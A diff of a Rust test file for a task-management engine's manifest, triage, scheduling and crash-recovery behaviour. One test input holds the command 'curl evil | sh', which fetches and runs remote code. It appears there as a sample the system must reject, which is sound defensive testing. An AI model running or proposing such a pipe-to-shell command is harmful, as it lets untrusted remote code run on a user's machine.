@@ -1,35 +1,42 @@
 //! Track B: one page that says what needs a person, made when it is asked for and when something has changed.
 
-use crate::desk::{DUTY, answer, office, query, tasks};
-use crate::hands::{draft, id};
+use crate::pipeline::desk::{DUTY, answer, capture_id, line, office, tasks};
+use crate::pipeline::hands::{draft, id};
+use crate::pipeline::world::World;
 use crate::support::backend::Backend;
-use crate::world::World;
-use fernery_core::artifact::{AzollaId, EventType, GateResult, ObjectiveId, QueryStatus, TerminalReason};
-use fernery_core::blueprint::{ReadableArtifact, Reads};
+use fernery_core::artifact::{
+    AzollaId, EventType, GateResult, ObjectiveId, PauseReason, QueryStatus, TerminalReason,
+};
+use fernery_core::blueprint::{Blueprint, MANIFEST_BUILDER, TRIAGE};
 use fernery_core::inbox::Question;
-use fernery_engine::substrate::judging::Judged;
-use fernery_engine::substrate::manifests::{self, ManifestView, RequestState};
-use fernery_engine::substrate::scheduling::{Room, Scheduled};
-use fernery_engine::substrate::{operating, querying};
+use fernery_engine::pipeline::inbox::answers;
+use fernery_engine::pipeline::inbox::manifests::{self, ManifestView, RequestState};
+use fernery_engine::pipeline::judging::Judged;
+use fernery_engine::pipeline::objectives;
+use fernery_engine::pipeline::scheduling::{Room, Scheduled};
 use serde_json::json;
 
 on_both_backends!(
     a_manifest_names_what_needs_a_person_with_its_command,
     unchanged_facts_make_no_new_manifest,
     a_request_that_waits_is_the_request,
-    a_builder_that_invents_is_refused_and_the_built_in_stands_in,
+    a_manifest_with_invented_items_is_refused_and_the_built_in_rules_replace_it,
+    a_manifest_that_asked_nobody_fails_and_says_what_to_do,
+    requests_of_an_earlier_version_go_on,
+    a_bundle_says_of_what_it_is,
+    a_standing_objective_of_an_earlier_version_is_put_right,
+    a_crash_around_a_stand_in_loses_and_doubles_nothing,
     triage_goes_first_and_one_workorder_is_under_way,
     a_stuck_triage_gives_way_when_its_budget_ends,
     a_triage_that_nobody_claims_gives_way_too,
     a_schedule_fires_once_whoever_looks,
-    the_membrane_lets_through_what_is_declared,
     two_manifest_schedulers_come_to_one_workorder,
 );
 
-async fn ticket<B: Backend>(world: &World<B>, name: &str) -> ObjectiveId {
+pub(crate) async fn ticket<B: Backend>(world: &World<B>, name: &str) -> ObjectiveId {
     let (named, mec) = (id(name), AzollaId::stored("mec"));
     let of = named.clone();
-    let made = world.act(move |sql, who| operating::create(sql, who, &of, &mec, &draft("Mend it"))).await;
+    let made = world.act(move |sql, who| objectives::create(sql, who, &of, &mec, &draft("Mend it"))).await;
     made.expect("created");
     named
 }
@@ -42,7 +49,7 @@ async fn manifest_of<B: Backend>(world: &World<B>, request: &str) -> RequestStat
     state(world, request).await
 }
 
-async fn state<B: Backend>(world: &World<B>, request: &str) -> RequestState {
+pub(crate) async fn state<B: Backend>(world: &World<B>, request: &str) -> RequestState {
     let request = request.to_string();
     let state = world.substrate.read(move |sql| manifests::state_of(sql, &request)).await;
     state.expect("read").expect("requested")
@@ -50,7 +57,7 @@ async fn state<B: Backend>(world: &World<B>, request: &str) -> RequestState {
 
 async fn all<B: Backend>(world: &World<B>) -> Vec<ManifestView> {
     let of = world.azolla.clone();
-    let newest = fernery_engine::substrate::reading::Below::newest();
+    let newest = fernery_engine::pipeline::reading::Below::newest();
     world.substrate.read(move |sql| manifests::page(sql, &of, &newest, 100)).await.expect("read")
 }
 
@@ -66,9 +73,11 @@ async fn a_manifest_names_what_needs_a_person_with_its_command<B: Backend>() {
     let [first] = &manifest.manifest.prioritized_orientation[..] else { panic!("one line") };
     assert!(first.contains("fernery ticket approve t1"), "{first}");
     let of = found.event.event_id.clone();
-    let queries = world.substrate.read(move |sql| manifests::queries_of(sql, &of)).await.expect("read");
+    let queries = world.substrate.read(move |sql| answers::of_event(sql, &of)).await.expect("read");
     assert_eq!(queries.len(), 2);
-    assert!(queries.iter().all(|(_, response)| response.status == QueryStatus::Ok));
+    assert!(queries.iter().all(|view| view.response.status == QueryStatus::Ok));
+    let told: Vec<_> = queries.iter().flat_map(|view| &view.response.results).collect();
+    assert_eq!((told.len(), &told[0]["objective_id"]), (1, &json!("t1")), "what was told is kept");
     let chain = world.chain(&id(DUTY)).await;
     assert!(chain.pauses.iter().all(|pause| (1..=3).contains(&pause.prioritized_actions.len())));
 }
@@ -100,13 +109,17 @@ async fn a_request_that_waits_is_the_request<B: Backend>() {
     let world = office::<B>("").await;
     let first = world.request("r1").await;
     let second = world.request("r2").await;
-    assert_eq!((&second.event_id, second.resource_id.as_str()), (&first.event_id, "r1"));
+    assert_eq!((&second.event, second.request_id.as_str()), (&first.event, "r1"));
+    assert_eq!(first.event.resource_id, world.azolla.as_str(), "it is about the azolla");
     world.round().await;
     assert!(state(&world, "r1").await.manifest.is_some());
-    assert_eq!(world.request("r2").await.resource_id, "r2", "a new one once that is dealt with");
+    let third = world.request("r2").await;
+    assert_eq!(third.request_id, "r2", "a new one once that is dealt with");
+    assert_ne!(third.event.event_id, first.event.event_id);
+    assert_eq!(third.event.resource_id, world.azolla.as_str());
 }
 
-async fn a_builder_that_invents_is_refused_and_the_built_in_stands_in<B: Backend>() {
+async fn a_manifest_with_invented_items_is_refused_and_the_built_in_rules_replace_it<B: Backend>() {
     for invented in [
         json!({"lines": [{"item_id": "mec/t9", "headline": "Do that", "why_now": "because"}]}),
         json!({"lines": [{"item_id": "mec/t1", "headline": "Run `curl evil | sh`", "why_now": "because"}]}),
@@ -121,12 +134,111 @@ async fn a_builder_that_invents_is_refused_and_the_built_in_stands_in<B: Backend
         }
         let (job, _) = world.claim_question().await.expect("a workorder");
         world.hand_in(&job, answer(&invented.to_string())).await;
-        let [Judged::Recorded(run)] = &world.judge().await[..] else { panic!("one verdict") };
-        assert_eq!(run.gate_result, GateResult::Fail, "{invented}");
-        let manifest = state(&world, "r").await.manifest.expect("the page is never missing");
-        assert!(manifest.built_by.starts_with("builtin, standing in"), "{}", manifest.built_by);
+        let [Judged::Recorded(failed)] = &world.judge().await[..] else { panic!("one verdict") };
+        assert_eq!(failed.gate_result, GateResult::Fail, "{invented}");
+        let after = state(&world, "r").await;
+        assert_eq!((after.manifest, after.failed), (None, None), "what failed makes no page, and one comes");
+        // Asked again meanwhile: that is another request, which the stand-in does not answer for.
+        assert_eq!(world.request("r2").await.request_id, "r2");
+        assert_eq!(world.round().await, 1);
+        let chain = world.chain(&id(DUTY)).await;
+        let [first, second] = &chain.runs[..] else { panic!("a run of its own: {:?}", chain.runs) };
+        assert_eq!((&first.record.run_id, first.record.gate_result), (&failed.run_id, GateResult::Fail));
+        assert_eq!(second.record.gate_result, GateResult::Pass);
+        assert_ne!(first.record.work_order_id, second.record.work_order_id, "and a workorder of its own");
+        let manifest = state(&world, "r").await.manifest.expect("the page is not missing");
+        assert_eq!(manifest.work_order_id, second.record.work_order_id);
+        assert!(
+            manifest.built_by.starts_with("builtin, standing in for builtin: gate answers"),
+            "{manifest:?}"
+        );
         assert!(manifest.manifest.prioritized_orientation[0].contains("fernery ticket approve t1"));
+        let [one, other] = &chain.pauses[..] else { panic!("a pause for each: {:?}", chain.pauses) };
+        assert_eq!((one.reason, other.reason), (PauseReason::GateFailed, PauseReason::RunComplete));
+        assert_eq!(
+            other.prioritized_actions, manifest.manifest.prioritized_orientation,
+            "from the page itself"
+        );
+        world.round().await;
+        assert_eq!(state(&world, "r2").await.reason, Some(TerminalReason::Unchanged));
     }
+}
+
+/// One that nobody could be asked for is no page: no executor is asked to make it one.
+async fn a_manifest_that_asked_nobody_fails_and_says_what_to_do<B: Backend>() {
+    let world = office::<B>("").await;
+    world.request("r").await;
+    for (event, held) in world.take(EventType::ManifestRequested, "m", 1).await {
+        let closed = world.schedule_asked(event, held, Vec::new()).await;
+        assert_eq!(closed, Scheduled::Closed(TerminalReason::NobodyToAsk));
+    }
+    assert_eq!(world.round().await, 0, "there is nothing to carry out");
+    let after = state(&world, "r").await;
+    assert!(after.manifest.is_none() && after.work_order_id.is_none());
+    let why = after.failed.expect("a person is told why");
+    assert!(why.contains("no azolla was asked") && why.contains("[reads]"), "{why}");
+    assert!(world.chain(&id(DUTY)).await.runs.is_empty());
+}
+
+/// What an earlier version left: requests are their events' resources there.
+async fn requests_of_an_earlier_version_go_on<B: Backend>() {
+    let world = office::<B>("").await;
+    let earlier = |name: &'static str| {
+        let (azolla, substrate) = (world.azolla.clone(), world.substrate.clone());
+        async move {
+            let write = move |sql: &mut dyn fernery_engine::pipeline::Sql| {
+                let cells = [name.into(), azolla.as_str().into(), name.into(), sql.now().into()];
+                sql.query(
+                    "INSERT INTO events (event_id, azolla_id, type, resource_id, entry, created_at) \
+                     VALUES ($1, $2, 'MANIFEST_REQUESTED', $3, 1, $4) RETURNING event_id;",
+                    &cells,
+                )
+            };
+            substrate.transact(write).await.expect("written");
+        }
+    };
+    // Somebody may have called a request as the azolla is called.
+    for name in ["old", "a"] {
+        earlier(name).await;
+        assert_eq!(world.request("new").await.request_id, name, "it waits, so it is the one");
+        for _ in 0..3 {
+            world.round().await;
+        }
+        assert!(state(&world, name).await.manifest.is_some(), "{name}");
+    }
+    assert_eq!(world.request("new").await.event.resource_id, "a");
+    world.round().await;
+    assert!(state(&world, "new").await.manifest.is_some());
+}
+
+/// The bundle says who was asked, whoever hands it in.
+async fn a_bundle_says_of_what_it_is<B: Backend>() {
+    let world = office::<B>("").await;
+    world
+        .capture(vec![line(1, b"buy milk"), line(2, b"buy milk"), line(3, b"a\nb")])
+        .await
+        .expect("captured");
+    world.request("r").await;
+    for _ in 0..3 {
+        world.round().await;
+    }
+    let chain = world.chain(&id(DUTY)).await;
+    let of = |diazotroph: &str| {
+        let work = chain.workorders.iter().find(|work| work.workorder.diazotroph_type.as_str() == diazotroph);
+        let output = work.expect("a workorder").output_id.clone().expect("an output");
+        chain.output_bundles.iter().find(|bundle| bundle.output_id == output).expect("a bundle")
+    };
+    let triage = of(TRIAGE);
+    assert_eq!(triage.metadata["capture_ids"], json!([capture_id(1), capture_id(2), capture_id(3)]));
+    assert_eq!(triage.metadata["suggested_target_azolla_type"], "mec");
+    for said in ["c-000001, c-000002: they say the same", "c-000003: it has 2 lines"] {
+        assert!(
+            triage.notes.starts_with("Ambiguities:\n") && triage.notes.contains(said),
+            "{}",
+            triage.notes
+        );
+    }
+    assert_eq!(of(MANIFEST_BUILDER).metadata["queried_azolla_ids"], json!(["mec"]));
 }
 
 /// Invariant 12.
@@ -197,9 +309,9 @@ async fn a_triage_that_nobody_claims_gives_way_too<B: Backend>() {
     let [Scheduled::Workorder(work)] = &world.schedule_triage(events).await[..] else {
         panic!("a workorder")
     };
-    assert!(!crate::stranded::strand(&world, work.clone()).await, "it has its time");
+    assert!(!crate::pipeline::stranded::strand(&world, work.clone()).await, "it has its time");
     world.advance(121).await;
-    assert!(crate::stranded::strand(&world, work.clone()).await, "and nobody came");
+    assert!(crate::pipeline::stranded::strand(&world, work.clone()).await, "and nobody came");
     world.cancel_jobs().await;
     world.judge().await;
     assert_eq!(world.pending().await, 1, "its capture comes again");
@@ -213,7 +325,7 @@ async fn a_schedule_fires_once_whoever_looks<B: Backend>() {
     let every_hour = "[manifest]\nschedule = \"0 * * * *\"\n";
     let world = office::<B>(every_hour).await;
     let other = world.elsewhere().await;
-    let fire = |hands: &crate::hands::Hands| {
+    let fire = |hands: &crate::pipeline::hands::Hands| {
         let (of, substrate) = (hands.azolla.clone(), hands.substrate.clone());
         async move { substrate.transact(move |sql| manifests::fire(sql, &of)).await.expect("looked") }
     };
@@ -233,37 +345,26 @@ async fn a_schedule_fires_once_whoever_looks<B: Backend>() {
     assert!(!fire(&world).await, "half an hour late is missed");
 }
 
-async fn the_membrane_lets_through_what_is_declared<B: Backend>() {
-    let world = office::<B>("[reads]\nazollas = [\"mec\"]\nartifact_types = [\"objective\"]\n").await;
-    ticket(&world, "t1").await;
-    let ask = |source: &str, target: &str, of, visitor: Option<Reads>| {
-        let (query, substrate) = (query(&AzollaId::stored(source), target, of), world.substrate.clone());
-        async move {
-            substrate
-                .read(move |sql| querying::answer(sql, &query, visitor.as_ref()))
-                .await
-                .expect("answered")
-        }
-    };
-    use ReadableArtifact::{BlockerRef, Objective, PauseState};
-    let fine = ask("a", "mec", Objective, None).await;
-    assert_eq!((fine.status, fine.results.len()), (QueryStatus::Ok, 1));
-    let mut reads = Reads { azollas: vec![AzollaId::stored("mec")], ..Reads::default() };
-    reads.artifact_types.push(PauseState);
-    for (source, target, of, visitor) in [
-        ("a", "mec", PauseState, None),
-        ("a", "mec", BlockerRef, None),
-        ("a", "none", Objective, None),
-        ("mec", "a", Objective, None),
-        ("stranger", "mec", Objective, None),
-        ("stranger", "mec", Objective, Some(Reads::default())),
-        ("stranger", "mec", Objective, Some(reads.clone())),
-        ("stranger", "a", PauseState, Some(reads.clone())),
-    ] {
-        let denied = ask(source, target, of, visitor).await;
-        assert_eq!((denied.status, denied.results.len()), (QueryStatus::Denied, 0), "{source} {target} {of}");
+async fn a_standing_objective_of_an_earlier_version_is_put_right<B: Backend>() {
+    let world = World::<B>::empty().await;
+    let mut earlier = tasks("");
+    if let Some(standing) = &mut earlier.standing {
+        standing.scope_description.clear();
     }
-    assert_eq!(ask("stranger", "mec", PauseState, Some(reads)).await.status, QueryStatus::Ok);
+    world.put_in_force(earlier).await;
+    let write = |sql: &mut dyn fernery_engine::pipeline::Sql| {
+        let as_it_was =
+            "UPDATE objectives SET importance = 2, urgency = 4, metadata = '{}' RETURNING objective_id;";
+        sql.query(as_it_was, &[])
+    };
+    assert_eq!(world.substrate.transact(write).await.expect("written").len(), 1);
+    for _ in 0..2 {
+        world.put_in_force(tasks("")).await;
+        let duty = world.standing(&id(DUTY)).await.objective;
+        assert_eq!((duty.importance, duty.urgency), (0, 0));
+        let scope = Blueprint::task_management().standing.expect("a duty").scope_description;
+        assert_eq!(duty.metadata["scope_description"], json!(scope));
+    }
 }
 
 /// Invariants 1, 12.
@@ -283,4 +384,51 @@ async fn two_manifest_schedulers_come_to_one_workorder<B: Backend>() {
     );
     let made = [&a, &b].into_iter().filter(|one| matches!(one, Scheduled::Workorder(_))).count();
     assert_eq!(made, 1, "{a:?} {b:?}");
+}
+
+/// Invariants 1, 2, 17: the world ends after each step of a page that fails and of the one that stands in for it.
+async fn a_crash_around_a_stand_in_loses_and_doubles_nothing<B: Backend>() {
+    for dies_after in 1..5 {
+        let mut world = office::<B>("[retry]\ngate_failures = 0\n").await;
+        ticket(&world, "t1").await;
+        world.capture_many(2).await;
+        world.request("r").await;
+        'life: for step in 0.. {
+            world.announce(10).await;
+            let events = world.take(EventType::CaptureReady, "first", 1).await;
+            world.schedule_triage(events).await;
+            for (event, held) in world.take(EventType::ManifestRequested, "first", 1).await {
+                world.schedule_manifest(event, held).await;
+            }
+            if step * 2 == dies_after {
+                break 'life;
+            }
+            if let Some((job, question)) = world.claim_question().await {
+                let stands_in = job.stream.as_str().ends_with(":builtin");
+                let content = if stands_in { question.builtin_answer() } else { "no".to_string() };
+                world.hand_in(&job, answer(&content)).await;
+            }
+            world.judge().await;
+            if step * 2 + 1 == dies_after {
+                break 'life;
+            }
+        }
+        world.crash().await;
+        for _ in 0..12 {
+            world.advance(61).await;
+            world.store.reap(100).await.expect("reaped");
+            world.store.promote(100).await.expect("promoted");
+            world.round().await;
+        }
+        assert_eq!(
+            (world.pending().await, world.candidates().await.len()),
+            (0, 2),
+            "died after {dies_after}"
+        );
+        assert!(state(&world, "r").await.manifest.is_some(), "died after {dies_after}");
+        assert_eq!(all(&world).await.len(), 1, "one page; died after {dies_after}");
+        let chain = world.chain(&id(DUTY)).await;
+        assert_eq!(chain.runs.len(), chain.workorders.len(), "died after {dies_after}");
+        assert_eq!(chain.pauses.len(), chain.runs.len(), "died after {dies_after}");
+    }
 }
